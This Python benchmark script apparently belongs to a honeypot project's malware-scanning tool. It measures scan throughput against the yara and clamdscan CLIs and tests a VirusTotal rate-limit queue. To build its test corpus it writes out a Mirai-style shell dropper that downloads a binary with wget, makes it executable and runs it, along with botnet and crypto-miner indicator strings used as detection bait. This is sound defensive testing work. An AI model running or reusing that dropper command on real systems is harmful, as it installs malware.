# SPDX-License-Identifier: MIT
"""Malware-scanning benchmark (not a test): ``honeyfarm scan`` against the ``yara`` and ``clamdscan`` CLIs.

    .venv/bin/python bench/scan.py               # ~1 minute
    .venv/bin/python bench/scan.py --files 2000 --json

* Throughput: the same corpus (``--files`` files in the central store's layout:
  small ELF binaries built with gcc, each made distinct by a random tail, shell
  scripts, random binary blobs and text; a few carry what the default rules and
  signatures look for) is judged
  (a) by the CLIs an operator would run: ``yara -r <the default rules> DIR``, then
      ``clamdscan DIR`` against the same clamd (default CONTSCAN mode, clamd reads the
      files itself), one after the other; and
  (b) by one ``honeyfarm scan`` pass (``Scanner.run_pass``) with YARA and ClamAV over
      the same directory, which also hashes every file (md5, sha1, sha256, TLSH),
      identifies it (libmagic, ELF/PE machine), streams it to clamd (INSTREAM) and
      commits ``files`` and ``scans`` rows to a fresh lake.
  Best of ``--rounds`` each, files per second and the ratio (target ≥ 1×).
* VirusTotal: the rate-limited queue against the tests' local VirusTotal stand-in
  (tests/vtserver.py, which enforces 4/min and 500/day) on a simulated clock: 700
  hashes queued, one simulated day and a bit run. Reported: requests per minute
  while the daily quota lasts, the most in any 60 s window, the day's total, and
  any 429 answers (target: exactly the quota, never more).

clamd is started privately on loopback (``honeyfarm.malware.localclamd``) and
stopped at the end.
"""

from __future__ import annotations

import argparse
import datetime as dt
import hashlib
import json
import os
import random
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

TESTS = Path(__file__).resolve().parent.parent / "tests"

C_SOURCES = {
    "mirai": 'static const char *s[] = {"/bin/busybox MIRAI", "/dev/watchdog", "TSource Engine Query", "LZRD"};',
    "miner": 'static const char *s[] = {"stratum+tcp://pool.example.org:3333", "--donate-level=1", "xmrig"};',
    "plain": 'static const char *s[] = {"usage: tool [-v] FILE", "version 1.0"};',
}
DROPPER = (
    "#!/bin/sh\ncd /tmp || cd /var/run || cd /mnt\nwget http://198.51.100.{n}/bins/x86 -O x; chmod 777 x; ./x ssh.{n}\n"
)
SCRIPT = "#!/bin/sh\n# backup job {n}\ntar czf /var/backups/etc-{n}.tgz /etc\necho done {n}\n"


def build_corpus(root: Path, n: int, rng: random.Random) -> Path:
    """``n`` distinct files under ``root/files/sha256/<aa>/<sha256>``; returns ``root/files``."""
    work = root / "build"
    work.mkdir(parents=True)
    elves = []
    for name, body in C_SOURCES.items():
        c = work / f"{name}.c"
        c.write_text(f"{body}\nint main(int argc, char **argv) {{ return s[argc % 2][0]; }}\n")
        subprocess.run(["gcc", "-O1", "-s", "-o", str(work / name), str(c)], check=True)
        elves.append((work / name).read_bytes())
    for i in range(n):
        kind = i % 10
        if kind < 3:  # ELF with a random tail (still a valid ELF; distinct hash), 10-200 KB
            data = elves[i % len(elves)] + rng.randbytes(rng.randint(10_000, 200_000))
        elif kind < 6:
            data = (DROPPER if i % 2 else SCRIPT).format(n=i).encode()
        elif kind < 9:
            data = rng.randbytes(rng.randint(4096, 256 * 1024))
        else:
            words = ["ssh", "root", "admin", "login", "failed", "tmp"]
            data = " ".join(rng.choice(words) for _ in range(400)).encode()
        sha = hashlib.sha256(data).hexdigest()
        p = root / "files" / "sha256" / sha[:2] / sha
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
    shutil.rmtree(work)
    return root / "files"


def best(fn: Any, rounds: int) -> float:
    times = []
    for _ in range(rounds):
        t0 = time.perf_counter()
        fn()
        times.append(time.perf_counter() - t0)
    return min(times)


def cli_baseline(files: Path, rules: list[Path], conf: Path) -> None:
    y = subprocess.run(["yara", "-r", "-w", *map(str, rules), str(files)], capture_output=True, text=True)
    if y.returncode not in (0, 1) or y.stderr.strip():
        raise RuntimeError(f"yara: {y.returncode} {y.stderr[:500]}")
    c = subprocess.run(["clamdscan", "--config-file", str(conf), "--no-summary", "--infected", str(files)],
                       capture_output=True, text=True)  # fmt: skip
    if c.returncode not in (0, 1):
        raise RuntimeError(f"clamdscan: {c.returncode} {c.stdout[-500:]} {c.stderr[-500:]}")


def scanner(store: Path, lake: Path, address: str, workers: int, transfer: str = "instream") -> Any:
    from honeyfarm.collect.centralfiles import CentralFiles
    from honeyfarm.collect.ship_config import ShipConfig
    from honeyfarm.lake.store import Lake
    from honeyfarm.malware.clamav import ClamAVEngine
    from honeyfarm.malware.config import ClamAVConfig, YaraConfig
    from honeyfarm.malware.lakewrite import ResultWriter
    from honeyfarm.malware.scanner import Scanner
    from honeyfarm.malware.yara_engine import YaraEngine

    return Scanner(
        CentralFiles.from_ship_config(ShipConfig(store="local", local_dir=store)),
        ResultWriter(Lake(lake)),
        [YaraEngine(YaraConfig()), ClamAVEngine(ClamAVConfig(address=address, transfer=transfer))],
        workers=workers,
    )


def ours(
    store: Path, lake: Path, address: str, workers: int, *, rescan: bool, transfer: str = "instream"
) -> dict[str, int]:
    """One pass into ``lake``: a fresh lake (first pass), or one whose files are identified but not judged
    (``rescan``: the verdicts are removed, as after a rule or signature update, so the engines run alone)."""
    if rescan:
        shutil.rmtree(lake / "scans", ignore_errors=True)
    else:
        shutil.rmtree(lake, ignore_errors=True)
    stats = scanner(store, lake, address, workers, transfer).run_pass()
    if stats.skipped_engines or stats.errors:
        raise RuntimeError(f"scan trouble: {stats.skipped_engines} {stats.errors[:3]}")
    if stats.identified != (0 if rescan else stats.stored) or stats.results != 2 * stats.stored:
        raise RuntimeError(f"unexpected pass: {stats.as_dict()}")
    return {f"{e}:{v}": n for (e, v), n in stats.verdicts.items()}


def virustotal(hashes: int) -> dict[str, Any]:
    sys.path.insert(0, str(TESTS))
    from vtserver import FakeClock, VTServer

    from honeyfarm.malware.config import VirusTotalConfig
    from honeyfarm.malware.virustotal import VirusTotal

    clock = FakeClock(dt.datetime(2026, 12, 7, 0, 0, tzinfo=dt.UTC).timestamp())
    with tempfile.TemporaryDirectory() as state, VTServer(api_key="bench", clock=clock.time) as srv:
        vt = VirusTotal(VirusTotalConfig(host=srv.url), Path(state), api_key="bench", clock=clock.time,
                        sleep=clock.sleep, max_sleep=1e9)  # fmt: skip
        for i in range(hashes):
            vt.enqueue(hashlib.sha256(f"bench-{i}".encode()).hexdigest(), None)
        t0 = time.perf_counter()
        got = vt.run(lambda: vt.pending() == 0)
        wall = time.perf_counter() - t0
        vt.close()
        hits = [h for h in srv.log if h.path.startswith("/api/v3/")]
    start = hits[0].t
    day_end = start - (start % 86_400) + 86_400
    first_day = [h for h in hits if h.t < day_end]
    busiest = max(sum(1 for h in hits if g.t <= h.t < g.t + 60) for g in hits)
    minutes = int((first_day[-1].t - first_day[0].t) // 60) + 1  # the minutes the first day's requests span
    return {
        "hashes": hashes, "answered": len(got), "requests": len(hits), "first_day": len(first_day),
        "minutes_first_day": minutes,
        "per_minute_first_day": round(len(first_day) / minutes, 2), "max_in_any_60s": busiest,
        "http_429": sum(1 for h in hits if h.status == 429), "wall_seconds": round(wall, 2),
    }  # fmt: skip


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--files", type=int, default=1000)
    ap.add_argument("--rounds", type=int, default=3)
    ap.add_argument("--workers", type=int, default=4, help="scanner threads (default 4, as [scan] workers)")
    ap.add_argument("--vt-hashes", type=int, default=700)
    ap.add_argument("--json", action="store_true")
    args = ap.parse_args()
    from honeyfarm.malware.localclamd import build_db, clamd_missing, run_clamd
    from honeyfarm.malware.yara_engine import rule_files

    if why := clamd_missing():
        sys.exit(f"bench/scan.py: {why}")
    if shutil.which("yara") is None or shutil.which("clamdscan") is None:
        sys.exit("bench/scan.py: the yara and clamdscan CLIs are needed (scripts/install-system-deps.sh)")
    from honeyfarm.malware.config import YaraConfig

    rules = sorted(rule_files(YaraConfig()).values())
    out: dict[str, Any] = {"files": args.files, "cpus": os.cpu_count()}
    with tempfile.TemporaryDirectory(prefix="hf-bench-scan-") as tmpd:
        tmp = Path(tmpd)
        files = build_corpus(tmp / "store", args.files, random.Random(13))
        out["corpus_bytes"] = sum(p.stat().st_size for p in files.rglob("*") if p.is_file())
        build_db(tmp / "db")
        # One clamd for both sides. DisableCache: every round judges every file (clamd otherwise remembers
        # clean files by hash and a later round would measure its cache). TemporaryDirectory on tmpfs: where
        # clamd spools an INSTREAM before scanning it (the clamd.conf advice in docs/malware.md).
        settings = {"MaxThreads": "2", "DisableCache": "yes"}
        if Path("/dev/shm").is_dir():
            settings["TemporaryDirectory"] = "/dev/shm"
        with run_clamd(tmp / "clamd", tmp / "db", settings=settings) as clamd:
            conf = tmp / "clamd" / "clamd.conf"
            sock, lake = str(clamd.unix_socket), tmp / "lake"
            cli = best(lambda: cli_baseline(files, rules, conf), args.rounds)
            verdicts: dict[str, int] = {}
            first = best(lambda: verdicts.update(ours(tmp / "store", lake, sock, args.workers, rescan=False)),
                         args.rounds)  # fmt: skip
            again = best(lambda: ours(tmp / "store", lake, sock, args.workers, rescan=True), args.rounds)
            fd = best(lambda: ours(tmp / "store", lake, sock, args.workers, rescan=True, transfer="fildes"),
                      args.rounds)  # fmt: skip
        out["cli_seconds"] = round(cli, 3)
        out["cli_files_per_s"] = round(args.files / cli, 1)
        for name, t in (("first_pass", first), ("rescan", again), ("rescan_fildes", fd)):
            out[f"{name}_seconds"] = round(t, 3)
            out[f"{name}_files_per_s"] = round(args.files / t, 1)
            out[f"{name}_ratio"] = round(cli / t, 2)
        out["verdicts"] = verdicts
    out["virustotal"] = virustotal(args.vt_hashes)
    if args.json:
        print(json.dumps(out, indent=2))
        return
    mb = out["corpus_bytes"] / 1e6
    print(f"corpus: {args.files:,} files, {mb:.1f} MB; {out['cpus']} CPUs; best of {args.rounds}")
    print(f"  yara -r + clamdscan (CLIs, YARA + ClamAV only):   {out['cli_files_per_s']:>8,.1f} files/s ({cli:.2f} s)")
    print(
        f"  honeyfarm scan, re-scan (YARA + ClamAV + lake):    {out['rescan_files_per_s']:>8,.1f} files/s "
        f"({again:.2f} s)  {out['rescan_ratio']:.2f}x (target >= 1x)"
    )
    print(
        f"  honeyfarm scan, re-scan, clamd transfer = fildes:  {out['rescan_fildes_files_per_s']:>8,.1f} files/s "
        f"({fd:.2f} s)  {out['rescan_fildes_ratio']:.2f}x"
    )
    print(
        f"  honeyfarm scan, first pass (+ identification):     {out['first_pass_files_per_s']:>8,.1f} files/s "
        f"({first:.2f} s)  {out['first_pass_ratio']:.2f}x"
    )
    print(f"  verdicts per pass: {verdicts}")
    v = out["virustotal"]
    print(
        f"VirusTotal (simulated clock, quota 4/min 500/day): {v['answered']} of {v['hashes']} answered with "
        f"{v['requests']} requests; first UTC day {v['first_day']} in {v['minutes_first_day']} min = "
        f"{v['per_minute_first_day']}/min, "
        f"max {v['max_in_any_60s']} in any 60 s, {v['http_429']} x 429 ({v['wall_seconds']} s wall)"
    )


if __name__ == "__main__":
    main()
